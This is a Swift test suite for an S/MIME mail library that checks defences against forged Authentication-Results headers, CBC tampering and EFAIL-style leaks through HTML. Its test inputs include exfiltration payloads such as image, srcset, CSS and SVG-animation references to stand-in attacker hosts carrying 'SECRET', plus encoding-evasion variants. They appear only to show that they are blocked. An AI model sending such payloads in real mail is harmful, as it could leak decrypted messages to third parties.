import CMS
import Foundation
import MIME
import SMIME
import TestSupport
import XCTest

/// The pieces that keep a forged result or tampered ciphertext from being trusted:
/// our authserv-id recognised however it is written, the marks of CBC tampering,
/// remote references in unauthenticated HTML, and the cipher named from the envelope.
final class UnauthenticatedContentTests: XCTestCase {
    func field(_ text: String) throws -> HeaderField {
        try XCTUnwrap(Entity.parse(Array((text + "\r\n\r\n").utf8)).fields.first)
    }

    // MARK: Authentication-Results (RFC 8601 §2.2, §5)

    func testOurAuthservIDIsRecognisedInAnySpelling() throws {
        for text in [
            "Authentication-Results: mx.example.com; smime=pass",
            "AUTHENTICATION-RESULTS: MX.Example.COM; smime=pass",
            "Authentication-Results: (a (nested) comment \\) here) mx.example.com (more) 1; smime=pass",
            "Authentication-Results:\r\n\tmx.example.com;\r\n smime=pass body.smime-identifier=alice@example.com",
            "Authentication-Results: \"mx.example.com\"; smime=pass",
            "Authentication-Results: mx.example.com.; smime=pass",
            "authentication-results:mx.example.com;none",
        ] {
            XCTAssertTrue(AuthenticationResults.isOurs(try field(text), authservID: "mx.example.com"), text)
        }
    }

    func testOtherAuthservIDsAndFieldsAreLeftAlone() throws {
        for text in [
            "Authentication-Results: mx.example.com.evil; smime=pass",
            "Authentication-Results: evil.example (mx.example.com); smime=pass",
            "Authentication-Results: x-mx.example.com; smime=pass",
            "X-Authentication-Results: mx.example.com; smime=pass",
            "Authentication-Results: (only a comment)",
        ] {
            XCTAssertFalse(AuthenticationResults.isOurs(try field(text), authservID: "mx.example.com"), text)
        }
    }

    func testRemovingOursKeepsEverythingElseAsWritten() throws {
        let text =
            "Authentication-Results: mx; smime=pass\r\nFrom: a@example.com\r\n"
            + "Authentication-Results: other; spf=pass\r\n"
            + "Subject: x\r\nAuthentication-Results: (c)\r\n MX ; smime=pass\r\n\r\nbody\r\n"
        let (clean, removed, _) = AuthenticationResults.removingOurs(
            from: try Entity.parse(Array(text.utf8)), authservID: "mx")
        XCTAssertEqual(removed, 2)
        XCTAssertEqual(
            string(clean.serialized()),
            "From: a@example.com\r\nAuthentication-Results: other; spf=pass\r\nSubject: x\r\n\r\nbody\r\n")
    }

    // MARK: Marks of tampering in decrypted content

    func testWellFormedContentHasNoMarks() {
        for text in [
            "Content-Type: text/plain; charset=utf-8\r\n\r\nGrüße aus Tokyo\r\n",
            "Content-Type: text/plain; charset=iso-8859-1\r\n\r\nGr\u{FC}\u{DF}e\r\n",
            "Content-Type: text/html; charset=utf-8\r\nContent-Transfer-Encoding: base64\r\n\r\nPGI+aGk8L2I+\r\n",
            "Content-Type: multipart/alternative; boundary=b\r\n\r\n--b\r\nContent-Type: text/plain\r\n\r\nhi\r\n"
                + "--b--\r\n",
            "This is some sample content.",  // RFC 4134 §5.3: bare text
        ] {
            let bytes =
                text.hasPrefix("Content-Type: text/plain; charset=iso")
                ? Array(text.unicodeScalars.map { UInt8($0.value) }) : Array(text.utf8)
            XCTAssertNil(MalformedContent.find(in: bytes), text)
        }
    }

    func testCBCDamageIsFound() {
        let garbage: [UInt8] = [
            0xBA, 0x37, 0x89, 0x29, 0xF5, 0xD7, 0x4E, 0xB5, 0xBE, 0x10, 0x4E, 0x30, 0xFE, 0x81, 0x60, 0x9A,
        ]
        let header = Array("Content-Type: text/html; charset=utf-8\r\n\r\n<p>".utf8)
        XCTAssertEqual(MalformedContent.find(in: header + garbage + Array("</p>\r\n".utf8)), .text(charset: "utf-8"))
        let latin = Array("Content-Type: text/plain; charset=iso-8859-1\r\n\r\nabc\u{1}def\r\n".utf8)
        XCTAssertEqual(MalformedContent.find(in: latin), .text(charset: "iso-8859-1"))
        // A chosen IV rewrote the first block into a From line: the next line is no field.
        let chosenIV = Array("From: e@evil.x\r\nxt/plain; charset=utf-8\r\n\r\nhi\r\n".utf8)
        XCTAssertEqual(MalformedContent.find(in: chosenIV), .header)
        XCTAssertEqual(
            MalformedContent.find(in: Array("Content-Type: text/plain\r\nX-G: ".utf8) + garbage + [13, 10, 13, 10]),
            .headerBytes(field: "X-G"))
        XCTAssertEqual(
            MalformedContent.find(in: Array("Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\n\r\nx\r\n".utf8)),
            .multipart)
    }

    func testISO2022EscapesAreNotExcusedInMarkup() {
        let text = "Content-Type: text/plain; charset=iso-2022-jp\r\n\r\n\u{1B}$B$3$s\u{1B}(B\r\n"
        XCTAssertNil(MalformedContent.find(in: Array(text.utf8)), "ISO-2022 text")
        for type in ["text/html", "application/xhtml+xml", "image/svg+xml"] {
            let html = "Content-Type: \(type); charset=iso-2022-jp\r\n\r\n<img s\u{1B}(Brc=\"http://a.evil/\">\r\n"
            XCTAssertEqual(MalformedContent.find(in: Array(html.utf8)), .text(charset: "iso-2022-jp"), type)
        }
    }

    func testAmbiguousMIMEIsMalformed() {
        let cases: [(String, MalformedContent)] = [
            (
                "Content-Type: text/plain\r\nContent-Type: text/html\r\n\r\n<img src=\"http://a.evil/\">\r\n",
                .ambiguous("Content-Type")
            ),
            (
                "Content-Type: multipart/mixed; boundary=\"a\"; boundary=\"b\"\r\n\r\n--a\r\n\r\nx\r\n--a--\r\n",
                .ambiguous("boundary")
            ),
            ("Content-Type: text/html; charset=utf-8; CHARSET=utf-7\r\n\r\nx\r\n", .ambiguous("charset")),
            ("Content-Type: text/html; charset=utf-8; charset*=utf-8''utf-7\r\n\r\nx\r\n", .ambiguous("charset")),
            (
                "Content-Type: multipart/mixed; boundary=a\r\n\r\n--a\r\nContent-Type: text/html\r\n"
                    + "Content-Type: text/plain\r\n\r\nx\r\n--a--\r\n",
                .ambiguous("Content-Type")
            ),
            (
                "Content-Type: text/plain\r\nContent-Transfer-Encoding: 7bit\r\n"
                    + "Content-Transfer-Encoding: base64\r\n\r\nx\r\n",
                .ambiguous("Content-Transfer-Encoding")
            ),
        ]
        for (text, expected) in cases { XCTAssertEqual(MalformedContent.find(in: Array(text.utf8)), expected, text) }
        // RFC 2231 continuations name one parameter, and a quoted ";" is no parameter.
        for text in [
            "Content-Type: text/plain; name*0=\"a\"; name*1=\"b\"; charset=utf-8\r\n\r\nx\r\n",
            "Content-Type: text/plain; name=\"a; charset=b\"; charset=utf-8\r\n\r\nx\r\n",
        ] {
            XCTAssertNil(MalformedContent.find(in: Array(text.utf8)), text)
        }
    }

    // MARK: HTML

    func neutralised(_ html: String) -> String { string(HTMLNeutraliser.neutralise(Array(html.utf8)).html) }

    func testRemoteReferencesAreBlocked() {
        let cases: [(String, String)] = [
            (##"<img src="//attacker/?a=SECRET">"##, ##"<img src="#blocked">"##),
            (##"<img SRC = 'https://t.example/x.png'>"##, ##"<img SRC = '#blocked'>"##),
            ("<img src=http://t.example/x.png alt=x>", "<img src=#blocked alt=x>"),
            (##"<img/src="&#47;&#x2F;attacker">"##, ##"<img/src="#blocked">"##),
            (##"<a href="https://example.com/">x</a>"##, ##"<a href="#blocked">x</a>"##),
            (##"<img alt="x"src="//a">"##, ##"<img alt="x"src="#blocked">"##),
            (##"<img srcset="a.png 1x, //a/b.png 2x">"##, ##"<img srcset="#blocked">"##),
            (##"<base href="http://attacker/"><img src="x.png">"##, ##"<base href="#blocked"><img src="#blocked">"##),
            (##"<svg><image xlink:href="//a/i.png"/></svg>"##, ##"<svg><image xlink:href="#blocked"/></svg>"##),
            (##"<table background="//a/bg.png">"##, ##"<table background="#blocked">"##),
            (
                ##"<meta http-equiv="refresh" content="0; URL=//a/">"##,
                ##"<meta http-equiv="refresh" content="#blocked">"##
            ),
            (##"<!-- <img src="//a/x"> -->"##, ##"<!-- <img src="#blocked"> -->"##),
            (##"<img ignore="abc" src="//atk/?a=SECRET"##, ##"<img ignore="abc" src="#blocked""##),
        ]
        for (input, expected) in cases { XCTAssertEqual(neutralised(input), expected, input) }
    }

    func testCSSReferencesAreBlocked() {
        let cases: [(String, String)] = [
            (##"<p style="background: url(//a/x.png)">"##, ##"<p style="background: url(#blocked)">"##),
            (##"<p style="background:URL( 'https://a/x' )">"##, ##"<p style="background:url(#blocked)">"##),
            (##"<p style="background:u&#114;l(//a/x)">"##, ##"<p style="background:url(#blocked)">"##),
            (##"<p style="background:u\72l(//a/x)">"##, ##"<p style="">"##),
            (##"<rect fill="url(https://a/#g)"/>"##, ##"<rect fill="url(#blocked)"/>"##),
            (
                "<style>@import \"https://a/s.css\"; p{background:url(//a/b)}</style>",
                "<style>@import \"#blocked\"; p{background:url(#blocked)}</style>"
            ),
            ("<style>p{content:\"\\201C\"}</style>", "<style></style>"),
        ]
        for (input, expected) in cases { XCTAssertEqual(neutralised(input), expected, input) }
    }

    func testReferencesInsideTheMessageStay() {
        let html = """
            <html><body style="font-family:&quot;Calibri&quot;,sans-serif;color:#333"><a href="#top" name="top">top</a>
            <img src="cid:logo@example.com" alt="a = b"><img src="data:image/png;base64,AAAA">
            <a href="mailto:bob@partner.example">mail</a><p style="background:url(cid:bg)">Price (net) = 5</p>
            <meta http-equiv="Content-Type" content="text/html; charset=utf-8"></body></html>
            """
        let (out, count) = HTMLNeutraliser.neutralise(Array(html.utf8))
        XCTAssertEqual(count, 0)
        XCTAssertEqual(string(out), html)
        XCTAssertEqual(neutralised(##"<img src="data:image/svg+xml,<svg/>">"##), ##"<img src="#blocked">"##)
    }

    func testMarkupPartsAreNeutralisedInTheirTransferEncoding() throws {
        let html = Base64.encode(Array(##"<img src="https://t.example/p.gif">"##.utf8), ending: .crlf)
        let text =
            "Content-Type: multipart/alternative; boundary=b\r\n\r\n--b\r\nContent-Type: text/plain\r\n\r\n"
            + "see https://t.example/\r\n--b\r\nContent-Type: text/html\r\nContent-Transfer-Encoding: base64\r\n\r\n"
            + string(html)
            + "--b\r\nContent-Type: text/html; charset=utf-7\r\n\r\n+ADw-img src=+ACI-//a+ACI-+AD4-\r\n--b--\r\n"
        let (entity, count) = HTMLNeutraliser.neutraliseParts(of: try Entity.parse(Array(text.utf8)))
        XCTAssertEqual(count, 2)
        let parts = try Multipart.parse(entity.body, boundary: "b").parts.map {
            try Entity.parse($0, allowEmptyHeader: true)
        }
        XCTAssertEqual(string(parts[0].body), "see https://t.example/")
        XCTAssertEqual(string(try parts[1].decodedBody()), ##"<img src="#blocked">"##)
        XCTAssertEqual(parts[2].contentType.mediaType, "text/plain", "UTF-7 markup cannot be scanned: shown as text")
    }

    func testEverySrcsetCandidateIsChecked() {
        for value in [
            "cid:a 1x, http://a.evil/x 2x", "data:image/png,x 1x, //a.evil/x", "cid:a 1x,//a.evil/x 2x",
            "cid:a,http://a.evil/x 2x", "cid:a 1x, cid:b 2x, https://a.evil/ 3x",
            "data:image/png;base64,AAAA,//a.evil/",
        ] {
            XCTAssertEqual(
                neutralised("<img srcset=\"\(value)\">"), ##"<img srcset="#blocked">"##, value)
        }
        XCTAssertEqual(
            neutralised(##"<source imagesrcset="cid:a 1x, &#x68;ttp://a.evil/ 2x">"##),
            ##"<source imagesrcset="#blocked">"##)
        for kept in [
            ##"<img srcset="cid:a 1x, cid:b 2x">"##, ##"<img srcset="data:image/png;base64,AAAA 1x,cid:b 640w">"##,
            ##"<img srcset="cid:a">"##,
        ] {
            XCTAssertEqual(neutralised(kept), kept)
        }
    }

    func testAnimationValuesAreURLs() {
        let cases: [(String, String)] = [
            (
                ##"<svg><image><set attributeName="href" to="http://a.evil/set"/></image></svg>"##,
                ##"<svg><image><set attributeName="href" to="#blocked"/></image></svg>"##
            ),
            (
                ##"<animate attributeName="href" values="cid:a;http://a.evil/anim" dur="1s"/>"##,
                ##"<animate attributeName="href" values="#blocked" dur="1s"/>"##
            ),
            (
                ##"<animate attributeName="href" from="//a.evil/" by="x">"##,
                ##"<animate attributeName="href" from="#blocked" by="x">"##
            ),
            (
                ##"<animate attributeName="href" by="https:&#x2F;/a.evil/">"##,
                ##"<animate attributeName="href" by="#blocked">"##
            ),
            (
                ##"<animate attributeName="fill" to="url(http://a.evil/#g)">"##,
                ##"<animate attributeName="fill" to="#blocked">"##
            ),
        ]
        for (input, expected) in cases { XCTAssertEqual(neutralised(input), expected, input) }
        for kept in [
            ##"<animate attributeName="opacity" from="0" to="1" values="0;0.5;1" by="0.1"/>"##,
            ##"<set attributeName="href" to="#frag"/><animate attributeName="fill" values="red;#fff;url(#g)"/>"##,
        ] {
            XCTAssertEqual(neutralised(kept), kept)
        }
    }

    func testISO2022MarkupBecomesText() throws {
        let text = "Content-Type: text/html; charset=ISO-2022-JP\r\n\r\n<img src=\"http://a.evil/\">\r\n"
        let (entity, count) = HTMLNeutraliser.neutraliseParts(of: try Entity.parse(Array(text.utf8)))
        XCTAssertEqual(count, 1)
        XCTAssertEqual(entity.contentType.mediaType, "text/plain")
        XCTAssertEqual(entity.contentType["charset"], "ISO-2022-JP")
    }

    func testDigestPartsAreMessages() throws {
        let text =
            "Content-Type: multipart/digest; boundary=\"b\"\r\n\r\n--b\r\n\r\nContent-Type: text/html\r\n\r\n"
            + "<p>SECRET</p><img src=\"http://a.evil/digest\">\r\n--b\r\nContent-Type: text/html\r\n\r\n"
            + "<img src=\"//a.evil/typed\">\r\n--b--\r\n"
        let (entity, count) = HTMLNeutraliser.neutraliseParts(of: try Entity.parse(Array(text.utf8)))
        XCTAssertEqual(count, 2)
        let out = string(entity.serialized())
        XCTAssertFalse(out.contains("a.evil"), out)
        XCTAssertTrue(out.contains(##"<p>SECRET</p><img src="#blocked">"##), out)
    }

    // MARK: The envelope's cipher

    func testTheCipherIsNamedFromTheEnvelope() throws {
        let bob = try Certificate(bytes: bytes(of: Paths.fixture("bob.pem")))
        for (cipher, name) in [
            (ContentCipher.aes256cbc, "AES-256-CBC"), (.aes128cbc, "AES-128-CBC"), (.aes256gcm, "AES-256-GCM"),
        ] {
            let der = try CMS.encrypt(
                Array("Content-Type: text/plain\r\n\r\nx".utf8), recipients: [bob], cipher: cipher)
            let encryption = try ContentEncryption(envelope: der)
            XCTAssertEqual(encryption.name, name)
            XCTAssertEqual(encryption.authenticated, cipher.isAuthenticated)
        }
        // openssl streams BER with indefinite lengths.
        let ber = try runProcess(
            "openssl",
            ["cms", "-encrypt", "-aes-192-cbc", "-stream", "-outform", "DER", Paths.fixture("bob.pem").path],
            input: Array("hello".utf8))
        XCTAssertEqual(ber.status, 0, ber.stderr)
        XCTAssertEqual(try ContentEncryption(envelope: ber.stdout).name, "AES-192-CBC")
    }
}
